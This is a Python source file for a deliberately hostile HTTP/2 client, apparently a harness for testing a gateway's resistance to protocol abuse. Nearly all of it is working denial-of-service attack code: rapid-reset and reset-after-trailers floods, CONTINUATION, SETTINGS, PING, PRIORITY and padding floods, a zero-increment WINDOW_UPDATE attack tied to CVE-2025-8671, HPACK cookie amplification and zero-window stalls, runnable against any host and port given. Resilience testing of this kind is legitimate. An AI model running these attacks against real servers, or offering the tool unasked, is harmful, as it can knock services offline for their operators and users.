"""A client of HTTP/2 that means harm, on Python's h2, hpack and hyperframe: it shares no line with the gateway's own.

    client.py HOST PORT ATTACK MOST    does it until the connection ends, or MOST times; says what became of it:

    {"ended": "goaway" | "closed" | null, "code": the last GOAWAY's, "times": how often, "resets": {code: count},
     "statuses": {status: count}}
"""

import json
import select
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PATIENCE = 20
GET = [(":method", "GET"), (":scheme", "http"), (":authority", "gateway.example")]
POST = [(":method", "POST"), *GET[1:]]


class Bytes:
    """Bytes in place of a frame that hyperframe would not make."""

    def __init__(self, kind, flags, stream, payload):
        self.whole = struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

    def serialize(self):
        return self.whole


class Client:
    def __init__(self, host, port, settings=None):
        self.socket = socket.create_connection((host, port))
        self.socket.settimeout(PATIENCE)
        self.http = h2.connection.H2Connection(h2.config.H2Configuration(validate_outbound_headers=False))
        self.http.local_settings.update(settings or {})
        self.http.initiate_connection()
        self.said = {"ended": None, "code": None, "times": 0, "resets": {}, "statuses": {}}
        self.answered = 0
        self.stream = -1
        self.flush()

    def fields(self, fields):
        return self.http.encoder.encode(fields)

    def next_stream(self):
        self.stream += 2
        return self.stream

    def flush(self):
        self.raw(self.http.data_to_send())

    def raw(self, data):
        """Sends, and hears meanwhile: whoever does not listen is kept waiting by its own window."""
        data = memoryview(data)
        until = time.monotonic() + PATIENCE
        while data and not self.said["ended"]:
            readable, writable, _ = select.select([self.socket], [self.socket], [], max(0, until - time.monotonic()))
            if not readable and not writable:
                raise TimeoutError("the other side neither reads nor ends the connection")
            if readable:
                self.hear()
            elif writable:
                try:
                    data = data[self.socket.send(data[:65536], socket.MSG_DONTWAIT):]
                except BlockingIOError:
                    pass
                except OSError:
                    # Its last words may still be there to be read.
                    while not self.said["ended"]:
                        self.hear()

    def send(self, *frames):
        self.raw(b"".join(frame.serialize() for frame in frames))

    def hear(self):
        try:
            data = self.socket.recv(65536)
        except OSError:
            data = b""
        if not data:
            self.said["ended"] = self.said["ended"] or "closed"
            return
        self.take(data)

    def take(self, data):
        """Looks at frames by themselves: h2 would call what this client does by its name and go no further."""
        self.pending = getattr(self, "pending", b"") + data
        while len(self.pending) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.pending[:9]))
            if len(self.pending) < 9 + length:
                return
            body, self.pending = self.pending[9:9 + length], self.pending[9 + length:]
            frame.parse_body(memoryview(body))
            kind = type(frame).__name__
            if kind == "GoAwayFrame" and frame.error_code:
                self.said["ended"], self.said["code"] = "goaway", frame.error_code
            elif kind == "RstStreamFrame":
                self.count("resets", frame.error_code)
            elif kind == "HeadersFrame":
                fields = dict(self.http.decoder.decode(frame.data))
                if ":status" in fields:
                    self.count("statuses", fields[":status"])
            elif kind in ("SettingsFrame", "PingFrame") and "ACK" not in frame.flags and not self.said["ended"]:
                ack = type(frame)(0)
                ack.flags.add("ACK")
                if kind == "PingFrame":
                    ack.opaque_data = frame.opaque_data
                try:
                    self.socket.sendall(ack.serialize())
                except OSError:
                    # It has ended, and what it said last is read before that is.
                    pass

    def count(self, what, key):
        self.answered += 1
        self.said[what][str(key)] = self.said[what].get(str(key), 0) + 1

    def wait(self, answered):
        """Hears until so many streams have an answer or an end, or all has ended."""
        while self.answered < answered and not self.said["ended"]:
            ready, _, _ = select.select([self.socket], [], [], PATIENCE)
            if not ready:
                return
            self.hear()

    def head(self, fields, path, end=True):
        frame = HeadersFrame(self.next_stream(), self.fields([*fields, (":path", path)]))
        frame.flags.add("END_HEADERS")
        if end:
            frame.flags.add("END_STREAM")
        return frame

    def reset(self, code=8):
        return RstStreamFrame(self.stream, error_code=code)


def repeated(client, most, frames):
    for _ in range(most):
        if client.said["ended"]:
            return
        client.send(*frames())
        client.said["times"] += 1
    # The other side may have read it all and be about to say so.
    client.wait(client.answered + 1)


def rapid_reset(client, most):
    repeated(client, most, lambda: [client.head(GET, "/x"), client.reset()])


def reset_after_trailers(client, most):
    """Two heads for each reset, so that whoever counts heads counts half of the streams."""

    def frames():
        head = client.head(POST, "/x", end=False)
        trailers = HeadersFrame(client.stream, client.fields([("x-sum", "1")]))
        trailers.flags.add("END_HEADERS")
        trailers.flags.add("END_STREAM")
        return [head, trailers, client.reset()]

    repeated(client, most, frames)


def continuations(client, most):
    client.send(HeadersFrame(client.next_stream(), client.fields([*GET, (":path", "/x")])))
    piece = client.fields([("x-a", "b")])
    repeated(client, most, lambda: [ContinuationFrame(client.stream, piece)])


def empty_continuations(client, most):
    client.send(HeadersFrame(client.next_stream(), client.fields([*GET, (":path", "/x")])))
    repeated(client, most, lambda: [ContinuationFrame(client.stream, b"")] * 50)


def settings(client, most):
    repeated(client, most, lambda: [SettingsFrame(0, {4: 1 << 20})] * 50)


def pings(client, most):
    repeated(client, most, lambda: [PingFrame(0, b"12345678")] * 50)


def answers_to_no_ping(client, most):
    frame = PingFrame(0, b"12345678")
    frame.flags.add("ACK")
    repeated(client, most, lambda: [frame] * 50)


def priorities(client, most):
    repeated(client, most, lambda: [PriorityFrame(client.next_stream(), depends_on=0, stream_weight=7)] * 50)


def unknown_frames(client, most):
    repeated(client, most, lambda: [Bytes(0xBE, 0, 0, b"grease")] * 50)


def empty_data(client, most):
    client.send(client.head(POST, "/x", end=False))
    repeated(client, most, lambda: [DataFrame(client.stream, b"")] * 50)


def padding(client, most):
    """Frames of nothing but padding: not empty, and of no content."""
    client.send(client.head(POST, "/x", end=False))
    frame = DataFrame(client.stream, b"")
    frame.flags.add("PADDED")
    repeated(client, most, lambda: [frame] * 50)


def no_increment(client, most):
    """CVE-2025-8671: what makes the other side reset the stream, over and over."""
    repeated(
        client,
        most,
        lambda: [client.head(GET, "/never"), Bytes(0x8, 0, client.stream, struct.pack(">I", 0))],
    )


def too_much_window(client, most):
    repeated(
        client,
        most,
        lambda: [client.head(GET, "/never"), WindowUpdateFrame(client.stream, 0x7FFFFFFF)],
    )


def data_after_the_end(client, most):
    repeated(client, most, lambda: [client.head(GET, "/never"), DataFrame(client.stream, b"more")])


def own_dependency(client, most):
    def frames():
        head = client.head(GET, "/never")
        return [head, PriorityFrame(client.stream, depends_on=client.stream, stream_weight=7)]

    repeated(client, most, frames)


def crumbs(client, most):
    """Ten thousand cookies of a byte each, of which the table makes one byte each on the wire."""
    fields = [*GET, (":path", "/x"), *[("cookie", "a")] * 10_000]
    for _ in range(most):
        block, stream = client.fields(fields), client.next_stream()
        frames = [HeadersFrame(stream, block[:16_000])]
        frames[0].flags.add("END_STREAM")
        frames += [ContinuationFrame(stream, block[at:at + 16_000]) for at in range(16_000, len(block), 16_000)]
        frames[-1].flags.add("END_HEADERS")
        client.send(*frames)
        client.said["times"] += 1
        client.wait(client.said["times"])


def shut_windows(client, most):
    """Answers that nobody takes: a window of no byte for each stream."""
    for _ in range(most):
        client.send(client.head(GET, "/large"))
        client.said["times"] += 1
    # Their heads first, and then whatever ends them.
    client.wait(2 * most)


SETTINGS = {"shut_windows": {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0}}


def main():
    host, port, attack, most = sys.argv[1:]
    client = Client(host, int(port), SETTINGS.get(attack))
    globals()[attack](client, int(most))
    print(json.dumps(client.said))


main()
